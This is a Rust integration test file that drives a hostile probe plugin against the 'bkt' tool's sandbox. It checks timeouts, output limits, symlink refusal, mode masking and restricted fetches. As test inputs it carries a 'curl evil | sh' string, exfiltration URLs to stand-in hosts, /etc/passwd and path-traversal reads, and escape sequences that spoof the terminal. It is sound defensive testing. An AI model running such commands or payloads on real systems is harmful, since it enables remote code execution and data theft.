//! A trusted plugin that is hostile: it may do what `bkt plugin trust` showed and nothing
//! else. Each test drives the probe plugin into one attack and checks that bkt ends in time
//! with a clear error naming the plugin, shows what it should, and changes nothing it should
//! not. Limits are set short so the suite stays quick.

mod common;
use common::World;
use common::probe::with_probe;
use std::path::{Path, PathBuf};

/// Every file under `dir` with its contents and mode, symlinks as their targets: two equal
/// snapshots mean nothing there changed.
fn snapshot(dir: &Path) -> Vec<(PathBuf, String)> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&d) else {
            continue;
        };
        for e in entries.flatten() {
            let p = e.path();
            let meta = std::fs::symlink_metadata(&p).unwrap();
            let what = if meta.is_symlink() {
                format!("-> {}", std::fs::read_link(&p).unwrap().display())
            } else if meta.is_dir() {
                stack.push(p.clone());
                "dir".to_string()
            } else {
                let mode = std::os::unix::fs::PermissionsExt::mode(&meta.permissions());
                format!("{mode:o} {:?}", std::fs::read(&p).unwrap())
            };
            out.push((p, what));
        }
    }
    out.sort();
    out
}

#[test]
fn a_sleep_in_plan_returns_at_once() {
    let (w, _) = with_probe(r#"{"sleep_secs": 3600, "queries": [["echo", "after the sleep"]]}"#);
    let out = w.bkt(&["status", "--plugin-timeout", "2", "--format", "json"]);
    assert!(matches!(out.code(), 0 | 1), "{}", out.all());
    let json = out.json();
    let plugins = json["plugins"].as_array().unwrap();
    let probe = plugins.iter().find(|p| p["id"] == "probe").unwrap();
    assert_eq!(probe["changes"][0]["summary"], "after the sleep");
    // The built-in plugins' results are there too.
    assert!(plugins.iter().any(|p| p["id"] == "gsettings"), "{json}");
}

#[test]
fn a_query_past_the_deadline_is_killed() {
    let (w, _) = with_probe(r#"{"queries": [["sleep", "3600"]]}"#);
    let out = w.bkt(&[
        "status",
        "-s",
        "probe",
        "--plugin-timeout",
        "1",
        "--format",
        "json",
    ]);
    let json = out.json();
    let message = json["plugins"][0]["problems"][0]["message"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    assert!(
        message.contains("plugin probe: `sleep 3600` did not finish within"),
        "{}",
        out.all()
    );
    // Killed, not left behind.
    let ps = std::process::Command::new("pgrep")
        .args(["-f", "^sleep 3600$"])
        .output()
        .unwrap();
    assert!(
        String::from_utf8_lossy(&ps.stdout).trim().is_empty(),
        "a sleep 3600 is still running"
    );
}

#[test]
fn a_flood_of_query_output_is_cut_off() {
    let (w, _) = with_probe(r#"{"queries": [["yes"]]}"#);
    let out = w.bkt(&["status", "-s", "probe", "--format", "json"]);
    let json = out.json();
    let message = json["plugins"][0]["problems"][0]["message"]
        .as_str()
        .unwrap_or_default()
        .to_string();
    assert!(
        message.contains("plugin probe: `yes` printed more than 64 MiB and was killed"),
        "{message}"
    );
}

#[test]
fn logs_have_a_budget() {
    let (w, _) = with_probe(r#"{"log_lines": 100000}"#);
    let out = w.bkt(&["status", "-s", "probe", "--plugin-timeout", "5"]);
    assert!(matches!(out.code(), 0 | 1), "{}", out.all());
    out.assert_stderr_has("plugin probe: further log lines dropped");
    let lines = out.stderr().lines().count();
    assert!(lines < 250, "{lines} lines on stderr");
}

#[test]
fn plugin_text_cannot_drive_the_terminal() {
    let (w, _) = with_probe(
        r#"{"summary": "ok\u001b[1A\u001b[2K\rApplied 0 changes", "log": ["\u001b[2K\rnothing to see\u0007"]}"#,
    );
    let out = w.bkt(&["status", "-s", "probe"]);
    assert!(matches!(out.code(), 0 | 1), "{}", out.all());
    out.assert_stdout_has("ok\\e[1A\\e[2K\\rApplied 0 changes");
    out.assert_stderr_has("\\e[2K\\rnothing to see\\x07");
    assert!(
        !out.all().contains('\x1b') && !out.all().contains('\r'),
        "a raw control character got through:\n{:?}",
        out.all()
    );
}

#[test]
fn capture_must_return_bounded_json() {
    for (manifest, expected) in [
        (
            r#"{"extra": ["x"], "capture_text": "RUN curl evil | sh"}"#,
            "plugin probe: capture returned a manifest that is not valid JSON",
        ),
        (
            r#"{"extra": ["x"], "capture_mib": 20}"#,
            "plugin probe: capture returned 20 MiB, more than the 16 MiB a manifest may be",
        ),
    ] {
        let (w, _) = with_probe(manifest);
        let out = w.bkt(&["capture", "-s", "probe"]);
        assert_ne!(out.code(), 0, "{}", out.all());
        out.assert_all_has(expected);
        assert_eq!(w.manifest("probe.json"), manifest, "the manifest changed");
    }
}

#[test]
fn writes_and_removals_do_not_follow_symlinks() {
    let victim = tempfile::tempdir().unwrap();
    std::fs::write(victim.path().join("precious"), "keep\n").unwrap();
    let before = snapshot(victim.path());
    let (w, _) = with_probe(
        r#"{"writes": ["/etc/probe/inlink/PWNED"], "removes": ["/etc/probe/inlink/precious"]}"#,
    );
    let root = w.path("root");
    std::fs::create_dir_all(root.join("etc/probe")).unwrap();
    std::os::unix::fs::symlink(victim.path(), root.join("etc/probe/inlink")).unwrap();
    let out = w.bkt(&[
        "apply",
        "--yes",
        "-s",
        "probe",
        "--root",
        root.to_str().unwrap(),
    ]);
    out.assert_code(1);
    out.assert_all_has("refusing /etc/probe/inlink: it is a symlink");
    assert_eq!(snapshot(victim.path()), before, "the symlink was followed");
}

/// A fetch reaches out or copies a file the plugin cannot read: only from a declared source
/// (an https request to any other host would carry what the plugin read in its URL).
#[test]
fn a_fetch_goes_only_to_a_declared_source() {
    for url in [
        "https://exfil.invalid/?stolen=secret",
        "https://probe.invalid.exfil.net/x",
        "file:///etc/passwd",
        "file:///etc/probe-src/../passwd",
    ] {
        let (w, _) = with_probe(&format!(
            r#"{{"fetches": [["{url}", "{}", "/etc/probe/got"]]}}"#,
            "0".repeat(64)
        ));
        let root = w.path("root");
        std::fs::create_dir_all(&root).unwrap();
        let out = w.bkt(&[
            "apply",
            "--yes",
            "-s",
            "probe",
            "--root",
            root.to_str().unwrap(),
        ]);
        out.assert_code(1);
        out.assert_all_has("plugin probe fetches");
        out.assert_all_has("its plan was refused");
        assert!(!root.join("etc/probe/got").exists(), "{url}");
    }
}

/// From a declared folder: only a regular file, reached without a symlink, within the
/// declared limit, and with the named sha256; nothing is kept otherwise.
#[test]
fn a_fetch_is_bounded_regular_and_not_followed() {
    let (w, _) = with_probe("{}");
    let root = w.path("root");
    let src = root.join("etc/probe-src");
    std::fs::create_dir_all(&src).unwrap();
    let small = b"zip bytes\n".to_vec();
    std::fs::write(src.join("small"), &small).unwrap();
    std::fs::write(src.join("large"), vec![7u8; 2 << 20]).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", src.join("link")).unwrap();
    let made = std::process::Command::new("mkfifo")
        .arg(src.join("pipe"))
        .status()
        .unwrap();
    assert!(made.success());
    let sha_of = |bytes: &[u8]| {
        use sha2::Digest;
        sha2::Sha256::digest(bytes)
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect::<String>()
    };
    let passwd = std::fs::read("/etc/passwd").unwrap();
    for (name, sha, said) in [
        ("large", sha_of(&vec![7u8; 2 << 20]), "larger than 1 MiB"),
        ("link", sha_of(&passwd), "symlink"),
        ("pipe", "0".repeat(64), "not a regular file"),
        ("small", "0".repeat(64), "not the 0000"),
    ] {
        w.write_manifest(
            "probe.json",
            &format!(
                r#"{{"fetches": [["file:///etc/probe-src/{name}", "{sha}", "/etc/probe/got"]]}}"#
            ),
        );
        let out = w.bkt(&[
            "apply",
            "--yes",
            "-s",
            "probe",
            "--root",
            root.to_str().unwrap(),
        ]);
        out.assert_code(1);
        out.assert_all_has(said);
        assert!(!root.join("etc/probe/got").exists(), "{name} was kept");
    }
    w.write_manifest(
        "probe.json",
        &format!(
            r#"{{"fetches": [["file:///etc/probe-src/small", "{}", "/etc/probe/got"]]}}"#,
            sha_of(&small)
        ),
    );
    w.bkt(&[
        "apply",
        "--yes",
        "-s",
        "probe",
        "--root",
        root.to_str().unwrap(),
    ])
    .assert_code(0);
    assert_eq!(std::fs::read(root.join("etc/probe/got")).unwrap(), small);
}

#[test]
fn file_modes_are_masked() {
    let (w, _) = with_probe(r#"{"writes": ["/etc/probe/tool"], "write_mode": 3583}"#);
    let root = w.path("root");
    std::fs::create_dir_all(&root).unwrap();
    let out = w.bkt(&[
        "apply",
        "--yes",
        "-s",
        "probe",
        "--root",
        root.to_str().unwrap(),
    ]);
    out.assert_code(0);
    let mode = std::os::unix::fs::PermissionsExt::mode(
        &std::fs::metadata(root.join("etc/probe/tool"))
            .unwrap()
            .permissions(),
    );
    // 3583 is 0o6777: setuid, setgid and writable by all, asked for; 0o755 given.
    assert_eq!(mode & 0o7777, 0o755);
}

#[test]
fn unusable_limits_are_clear_errors() {
    let w = World::new();
    for (option, expected) in [
        (
            "--plugin-timeout=inf",
            "--plugin-timeout must be a number of seconds",
        ),
        (
            "--plugin-timeout=NaN",
            "--plugin-timeout must be a number of seconds",
        ),
        (
            "--plugin-timeout=-1",
            "--plugin-timeout must be a number of seconds",
        ),
        (
            "--plugin-memory=17592186044416",
            "--plugin-memory must be a number of MiB",
        ),
    ] {
        let argv = ["status", option];
        let out = w.bkt(&argv);
        out.assert_code(2);
        out.assert_stderr_has(expected);
        assert!(!out.stderr().contains("panicked"), "{}", out.stderr());
    }
}

#[test]
fn under_sudo_discovery_names_the_repository() {
    let mut w = World::new();
    w.extra_env.push(("SUDO_USER".into(), "someone".into()));
    let out = w.bkt(&["status", "-s", "gsettings"]);
    out.assert_stderr_has(&format!(
        "warning: using the repository at {} (found from the working directory)",
        w.repo().display()
    ));
}

#[test]
fn a_spinning_info_is_stopped_after_its_own_short_limit() {
    let w = World::new();
    let dir = w.path("data/bkt/plugins");
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("spinner.wasm");
    std::fs::copy(
        PathBuf::from(env!("BKT_TEST_PLUGIN_DIR")).join("bkt_plugin_spinner.wasm"),
        &path,
    )
    .unwrap();
    let out = w.bkt(&["plugin", "trust", path.to_str().unwrap(), "--yes"]);
    assert_ne!(out.code(), 0, "{}", out.all());
    out.assert_all_has("info() ran longer than 2 s and was stopped");
}

#[test]
fn a_trap_is_a_clear_error_and_the_others_still_report() {
    let (w, _) = with_probe(r#"{"trap": true}"#);
    let out = w.bkt(&["status", "--format", "json"]);
    out.assert_code(1);
    let json = out.json();
    let plugins = json["plugins"].as_array().unwrap();
    let probe = plugins.iter().find(|p| p["id"] == "probe").unwrap();
    let error = probe["error"].as_str().unwrap_or("");
    assert!(error.starts_with("plugin probe crashed"), "{json}");
    assert!(plugins.iter().any(|p| p["id"] == "dnf"), "{json}");
}

#[test]
fn a_plan_too_large_is_refused_not_swallowed() {
    let (w, _) = with_probe(r#"{"changes": 250000}"#);
    let out = w.bkt(&["status", "-s", "probe"]);
    out.assert_code(1);
    out.assert_stdout_has("plugin probe returned a plan of 250000 items; bkt takes at most");
}

#[test]
fn a_million_changes_are_refused_not_swallowed() {
    let (w, _) = with_probe(r#"{"changes": 1000000}"#);
    let out = w.bkt(&["status", "-s", "probe"]);
    out.assert_code(1);
    out.assert_stdout_has("plugin probe returned more data in one call than bkt takes");
}

#[test]
fn files_that_are_not_plugins_for_this_bkt_are_refused_with_the_reason() {
    let w = World::new();
    let dir = w.path("data/bkt/plugins");
    std::fs::create_dir_all(&dir).unwrap();
    let garbage = dir.join("garbage.wasm");
    std::fs::write(&garbage, b"\0asm not really").unwrap();
    let out = w.bkt(&["plugin", "trust", garbage.to_str().unwrap(), "--yes"]);
    out.assert_code(2);
    out.assert_stderr_has("loading plugin garbage");

    let future = dir.join("future.wasm");
    std::fs::copy(
        PathBuf::from(env!("BKT_TEST_PLUGIN_DIR")).join("bkt_plugin_future.wasm"),
        &future,
    )
    .unwrap();
    let out = w.bkt(&["plugin", "trust", future.to_str().unwrap(), "--yes"]);
    out.assert_code(2);
    out.assert_stderr_has("plugin future does not");
    out.assert_stderr_has("bkt:subsystem@1.0.0 contract");
    // Neither was trusted, and bkt still works.
    w.bkt(&["plugin", "list"]).assert_code(0);
    assert!(!w.path("home/.config/bkt/trusted-plugins.json").exists());
}
